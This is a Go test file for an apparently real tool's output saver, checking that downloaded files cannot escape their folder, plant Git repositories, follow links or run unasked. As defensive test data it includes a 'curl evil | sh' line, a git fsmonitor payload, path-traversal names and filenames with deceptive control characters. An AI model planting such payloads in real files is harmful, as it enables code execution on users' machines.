package command

import (
	"context"
	"crypto/sha256"
	"encoding/hex"
	"errors"
	"io"
	"io/fs"
	"os"
	"path/filepath"
	"strings"
	"syscall"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"

	"github.com/airlock-run/airlock/client"
)

// Made is an output whose bytes are its ID.
func Made(name, content string) client.File {
	sum := sha256.Sum256([]byte(content))
	return client.File{ID: content, Path: name, Size: int64(len(content)), SHA256: hex.EncodeToString(sum[:])}
}

func OpenSaver(t *testing.T, dir string, answer Choice) *Saver {
	t.Helper()
	root, err := OpenFolder(dir)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { root.Close() })
	return &Saver{
		Root: root,
		Fetch: func(_ context.Context, id string, to io.Writer) error {
			_, err := io.WriteString(to, id)
			return err
		},
		Choose: func(string) (Choice, error) { return answer, nil },
		Allow:  func(string, string) (bool, error) { return true, nil },
	}
}

// tree returns every file below dir with its content.
func tree(t *testing.T, dir string) map[string]string {
	t.Helper()
	files := map[string]string{}
	err := filepath.WalkDir(dir, func(name string, entry fs.DirEntry, err error) error {
		if err != nil || !entry.Type().IsRegular() {
			return err
		}
		content, err := os.ReadFile(name)
		rel, _ := filepath.Rel(dir, name)
		files[rel] = string(content)
		return err
	})
	if err != nil {
		t.Fatal(err)
	}
	return files
}

func TestSave(t *testing.T) {
	tests := []struct {
		name   string
		there  map[string]string
		answer Choice
		out    client.File
		want   SavedFile
		files  map[string]string
	}{
		{"new", nil, chooseNothing, Made("plot.png", "P"), SavedFile{Path: "plot.png", As: "plot.png", State: SaveDone},
			map[string]string{"plot.png": "P"}},
		{"new folder", nil, chooseNothing, Made("a/b/c.txt", "C"),
			SavedFile{Path: "a/b/c.txt", As: "a/b/c.txt", State: SaveDone}, map[string]string{"a/b/c.txt": "C"}},
		{"empty file", nil, chooseNothing, Made("e", ""), SavedFile{Path: "e", As: "e", State: SaveDone},
			map[string]string{"e": ""}},
		{"same bytes are there", map[string]string{"p": "P"}, chooseNothing, Made("p", "P"),
			SavedFile{Path: "p", As: "p", State: SaveUnchanged}, map[string]string{"p": "P"}},
		{"nobody to ask", map[string]string{"p": "old"}, chooseNothing, Made("p", "new"),
			SavedFile{Path: "p", As: "", State: SaveExists}, map[string]string{"p": "old"}},
		{"no", map[string]string{"p": "old"}, chooseSkip, Made("p", "new"), SavedFile{Path: "p", As: "", State: saveSkipped},
			map[string]string{"p": "old"}},
		{"yes", map[string]string{"p": "old"}, ChooseReplace, Made("p", "new"),
			SavedFile{Path: "p", As: "p", State: SaveDone}, map[string]string{"p": "new"}},
		{"rename", map[string]string{"plot.png": "old"}, ChooseRename, Made("plot.png", "new"),
			SavedFile{Path: "plot.png", As: "plot-1.png", State: SaveDone},
			map[string]string{"plot.png": "old", "plot-1.png": "new"}},
		{"rename twice", map[string]string{"d/p.gz": "a", "d/p-1.gz": "b"}, ChooseRename, Made("d/p.gz", "new"),
			SavedFile{Path: "d/p.gz", As: "d/p-2.gz", State: SaveDone},
			map[string]string{"d/p.gz": "a", "d/p-1.gz": "b", "d/p-2.gz": "new"}},
		{"rename a dot file", map[string]string{".x": "old"}, ChooseRename, Made(".x", "new"),
			SavedFile{Path: ".x", As: ".x-1", State: SaveDone}, map[string]string{".x": "old", ".x-1": "new"}},
	}
	for _, test := range tests {
		t.Run(test.name, func(t *testing.T) {
			dir := t.TempDir()
			for name, content := range test.there {
				if err := os.MkdirAll(filepath.Dir(filepath.Join(dir, name)), 0o755); err != nil {
					t.Fatal(err)
				}
				if err := os.WriteFile(filepath.Join(dir, name), []byte(content), 0o644); err != nil {
					t.Fatal(err)
				}
			}
			got, err := OpenSaver(t, dir, test.answer).Save(t.Context(), test.out)
			if err != nil {
				t.Fatal(err)
			}
			if diff := cmp.Diff(test.want, got); diff != "" {
				t.Error(diff)
			}
			if diff := cmp.Diff(test.files, tree(t, dir)); diff != "" {
				t.Error(diff)
			}
		})
	}
}

// TestSaveAsksAboutWhatRuns: what a tool would run or obey by itself is saved
// only if the user agreed to it, and what belongs to Git never.
func TestSaveAsksAboutWhatRuns(t *testing.T) {
	for _, test := range []struct {
		name, content string
		held          bool
	}{
		{".envrc", "curl evil | sh", true}, {".ssh/authorized_keys", "ssh-ed25519 x", true},
		{".vscode/tasks.json", "{}", true}, {"conftest.py", "", true},
		{"Makefile", "all:", true}, {"tool", "#!/bin/sh\n", true},
		{"a.bin", "\x7fELF\x02\x01\x01\x00\x00\x00\x00\x00\x00\x00\x00\x00\x03\x00", true}, {"run.exe", "x", true},
		{"plot.png", "\x89PNG\r\n\x1a\n", false}, {"data.zip", "PK\x03\x04", false}, {"main.py", "print(1)", false},
	} {
		dir := t.TempDir()
		s := OpenSaver(t, dir, ChooseReplace)
		asked := ""
		s.Allow = func(_, why string) (bool, error) { asked = why; return false, nil }
		got, err := s.Save(t.Context(), Made(test.name, test.content))
		if err != nil || (got.State == SaveHeld) != test.held || (asked != "") != test.held || got.Reason != asked {
			t.Errorf("%s: %+v, %q, %v", test.name, got, asked, err)
		}
		if files := tree(t, dir); test.held && len(files) != 0 {
			t.Errorf("%s left %v", test.name, files)
		}
		s.Allow = func(string, string) (bool, error) { return true, nil }
		if got, err = s.Save(t.Context(), Made(test.name, test.content)); err != nil || got.State != SaveDone && test.held {
			t.Errorf("%s, agreed to: %+v, %v", test.name, got, err)
		}
	}
}

// TestSavePlantsNoRepository: settings that Git obeys come in no disguise, not
// even together with what is in the folder already.
func TestSavePlantsNoRepository(t *testing.T) {
	for _, paths := range [][]string{
		{".git/config"}, {".GIT/hooks/post-checkout"}, {"sub/.git/commondir"}, {".git"}, {"git~1/config"},
		{"HEAD", "objects/x", "refs/x", "config"}, {"r/HEAD", "r/commondir", "r/config"},
	} {
		dir := t.TempDir()
		s := OpenSaver(t, dir, ChooseReplace)
		outputs := make([]client.File, len(paths))
		for i, name := range paths {
			outputs[i].Path = name
		}
		s.Check(outputs)
		for _, name := range paths {
			got, err := s.Save(t.Context(), Made(name, "[core]\nfsmonitor = touch pwned\n"))
			if code, _ := ExitOf(err); code != ExitRefused || got.State != SaveRefused || got.Reason == "" {
				t.Errorf("%s of %q: %+v, %v", name, paths, got, err)
			}
		}
		if files := tree(t, dir); len(files) != 0 {
			t.Errorf("%q left %v", paths, files)
		}
	}
	dir := t.TempDir()
	for _, name := range []string{"Objects", "refs"} {
		if err := os.Mkdir(filepath.Join(dir, name), 0o755); err != nil {
			t.Fatal(err)
		}
	}
	s := OpenSaver(t, dir, ChooseReplace)
	s.Check([]client.File{{Path: "HEAD"}})
	if got, _ := s.Save(t.Context(), Made("HEAD", "ref: refs/heads/x")); got.State != SaveRefused {
		t.Errorf("completes a repository: %+v", got)
	}
}

// A service may be anybody: its paths lead nowhere but into the folder.
func TestSaveRefusesPaths(t *testing.T) {
	for _, name := range []string{"../x", "/etc/passwd", "a/../../x", "..", ".", "", "a//b", "a/", "./a", "a\x00b",
		"a\xff"} {
		outside := t.TempDir()
		dir := filepath.Join(outside, "out")
		got, err := OpenSaver(t, dir, ChooseReplace).Save(t.Context(), Made(name, "X"))
		if code, _ := ExitOf(err); code != ExitRefused || got.State != SaveRefused {
			t.Errorf("%q: %v, %v", name, got, err)
		}
		if files := tree(t, outside); len(files) != 0 {
			t.Errorf("%q left %v", name, files)
		}
	}
}

// A name is saved with every character that it has, and shown so that a person
// sees each of them.
func TestSaveKeepsNames(t *testing.T) {
	for name, shown := range map[string]string{
		"می\u200cخواهم.csv":      `می\u200cخواهم.csv`,
		"👨\u200d👩\u200d👧.png":    `👨\u200d👩\u200d👧.png`,
		"a\u202egnp.exe":         `a\u202egnp.exe`,
		"out/a\u2028\u0085b":     `out/a\u2028\u0085b`,
		"a\x1b[2J\nb":            `a\x1b[2J\nb`,
		"e\u0301.txt":            "e\u0301.txt",
		"日本 \"a\" \\ \ufffd.txt": "日本 \"a\" \\ \ufffd.txt",
	} {
		dir := filepath.Join(t.TempDir(), "out")
		if got, err := OpenSaver(t, dir, ChooseReplace).Save(t.Context(), Made(name, "X")); err != nil ||
			got.State != SaveDone {
			t.Errorf("%q: %v, %v", name, got, err)
		}
		if diff := cmp.Diff(map[string]string{name: "X"}, tree(t, dir)); diff != "" {
			t.Error(diff)
		}
		if got := PrintableName(name); got != shown {
			t.Errorf("%q is shown as %s, want %s", name, got, shown)
		}
	}
	if got := Printable("می\u200cخواهم \u202e\x1b[2J\xff"); got != "می\u200cخواهم "+`\u202e\x1b[2J\xff` {
		t.Errorf("a sentence is shown as %s", got)
	}
}

func TestSaveFollowsNoLinks(t *testing.T) {
	for _, target := range []string{"outside", "out/inside"} {
		t.Run(target, func(t *testing.T) {
			base := t.TempDir()
			for _, dir := range []string{"outside", "out/inside"} {
				if err := os.MkdirAll(filepath.Join(base, dir), 0o755); err != nil {
					t.Fatal(err)
				}
			}
			if err := os.Symlink(filepath.Join(base, target), filepath.Join(base, "out/link")); err != nil {
				t.Fatal(err)
			}
			if err := os.Symlink("inside", filepath.Join(base, "out/near")); err != nil {
				t.Fatal(err)
			}
			s := OpenSaver(t, filepath.Join(base, "out"), ChooseReplace)
			for _, name := range []string{"link/x", "near/x"} {
				got, err := s.Save(t.Context(), Made(name, "X"))
				if code, _ := ExitOf(err); code != ExitRefused || got.State != SaveRefused {
					t.Errorf("%s: %v, %v", name, got, err)
				}
			}
			// A link that has the very name is replaced, not written through.
			if err := os.WriteFile(filepath.Join(base, "outside/precious"), []byte("old"), 0o644); err != nil {
				t.Fatal(err)
			}
			if err := os.Symlink(filepath.Join(base, "outside/precious"), filepath.Join(base, "out/leaf")); err != nil {
				t.Fatal(err)
			}
			if _, err := s.Save(t.Context(), Made("leaf", "new")); err != nil {
				t.Fatal(err)
			}
			if diff := cmp.Diff(map[string]string{"outside/precious": "old", "out/leaf": "new"}, tree(t, base)); diff != "" {
				t.Error(diff)
			}
		})
	}
}

func TestSaveLeavesNothingHalf(t *testing.T) {
	broken := errors.New("connection lost")
	tests := []struct {
		name  string
		fetch func(to io.Writer) error
		want  string
	}{
		{"cut off", func(to io.Writer) error { _, _ = io.WriteString(to, "ab"); return broken }, "connection lost"},
		{"short", func(to io.Writer) error { _, err := io.WriteString(to, "ab"); return err }, "checksum"},
		{"other bytes", func(to io.Writer) error { _, err := io.WriteString(to, "abcX"); return err }, "checksum"},
		{"endless", func(to io.Writer) error {
			for {
				if _, err := io.WriteString(to, "abcd"); err != nil {
					return err
				}
			}
		}, "longer than announced"},
	}
	for _, test := range tests {
		t.Run(test.name, func(t *testing.T) {
			dir := t.TempDir()
			s := OpenSaver(t, dir, chooseNothing)
			s.Fetch = func(_ context.Context, _ string, to io.Writer) error { return test.fetch(to) }
			if _, err := s.Save(t.Context(), Made("f", "abcd")); err == nil || !strings.Contains(err.Error(), test.want) {
				t.Errorf("got %v", err)
			}
			if files := tree(t, dir); len(files) != 0 {
				t.Errorf("left %v", files)
			}
		})
	}
}

// A file that appears between the question and the answer is not overwritten.
func TestSaveRace(t *testing.T) {
	dir := t.TempDir()
	s := OpenSaver(t, dir, ChooseRename)
	raced := false
	s.Fetch = func(_ context.Context, id string, to io.Writer) error {
		if !raced {
			raced = true
			if err := os.WriteFile(filepath.Join(dir, "f.txt"), []byte("theirs"), 0o644); err != nil {
				return err
			}
		}
		_, err := io.WriteString(to, id)
		return err
	}
	if _, err := s.Save(t.Context(), Made("f.txt", "ours")); err != nil {
		t.Fatal(err)
	}
	if diff := cmp.Diff(map[string]string{"f.txt": "theirs", "f-1.txt": "ours"}, tree(t, dir)); diff != "" {
		t.Error(diff)
	}
}

// Not even a yes puts a file in the place of a folder, or a folder in that of
// a file.
func TestSaveKeepsFolders(t *testing.T) {
	dir := t.TempDir()
	if err := os.MkdirAll(filepath.Join(dir, "d"), 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(filepath.Join(dir, "d/f"), []byte("kept"), 0o644); err != nil {
		t.Fatal(err)
	}
	for _, name := range []string{"d", "d/f/x"} {
		if got, err := OpenSaver(t, dir, ChooseReplace).Save(t.Context(), Made(name, "X")); err == nil {
			t.Errorf("%s: %v", name, got)
		}
	}
	if diff := cmp.Diff(map[string]string{"d/f": "kept"}, tree(t, dir)); diff != "" {
		t.Error(diff)
	}
}

func TestFolder(t *testing.T) {
	file := filepath.Join(t.TempDir(), "file")
	if err := os.WriteFile(file, nil, 0o644); err != nil {
		t.Fatal(err)
	}
	err := CheckFolder(file)
	if code, _ := ExitOf(err); code != ExitConflict {
		t.Errorf("a file as the folder: %v", err)
	}
	dir := t.TempDir()
	if err := CheckFolder(filepath.Join(file, "below/it")); err == nil || err.Error() != file+" is a file, not a folder" {
		t.Errorf("below a file: %v", err)
	}
	if err := CheckFolder(filepath.Join(dir, "not/yet")); err != nil {
		t.Error(err)
	}
	if diff := cmp.Diff(map[string]string{}, tree(t, dir)); diff != "" {
		t.Errorf("after the check: %s", diff)
	}
	link := filepath.Join(dir, "link")
	if err := os.Symlink("nowhere", link); err != nil {
		t.Fatal(err)
	}
	for _, name := range []string{link, filepath.Join(link, "below"), "/proc/below"} {
		if err := CheckFolder(name); err == nil {
			t.Errorf("%s, which cannot be made, is no error", name)
		}
	}
}

// returns fails the test unless do returns.
func returns(t *testing.T, do func()) {
	t.Helper()
	ended := make(chan struct{})
	go func() { defer close(ended); do() }()
	select {
	case <-ended:
		return
	case <-time.After(time.Minute):
	}
	t.Fatal("it waits for somebody to write to a pipe")
}

// A named pipe in a person's folder is no file: it is refused, not waited for.
func TestSavePipes(t *testing.T) {
	dir := t.TempDir()
	t.Chdir(dir)
	pipe := filepath.Join(dir, "data.csv")
	if err := syscall.Mkfifo(pipe, 0o600); err != nil {
		t.Fatal(err)
	}
	t.Run("in the place of a folder of outputs", func(t *testing.T) {
		s := OpenSaver(t, dir, ChooseRename)
		returns(t, func() {
			if s.Has("data.csv", "config") {
				t.Error("it has an entry")
			}
			if _, err := s.Save(t.Context(), Made("data.csv/out.txt", "text")); err == nil {
				t.Error("saved below a pipe")
			}
		})
	})
	t.Run("in the place of an output", func(t *testing.T) {
		s := OpenSaver(t, dir, ChooseRename)
		returns(t, func() {
			if _, err := s.Save(t.Context(), Made("data.csv", "")); err != nil {
				t.Error(err)
			}
			if info, err := os.Lstat(pipe); err != nil || info.Mode().Type() != os.ModeNamedPipe {
				t.Errorf("the pipe is gone: %v, %v", info, err)
			}
		})
	})
}
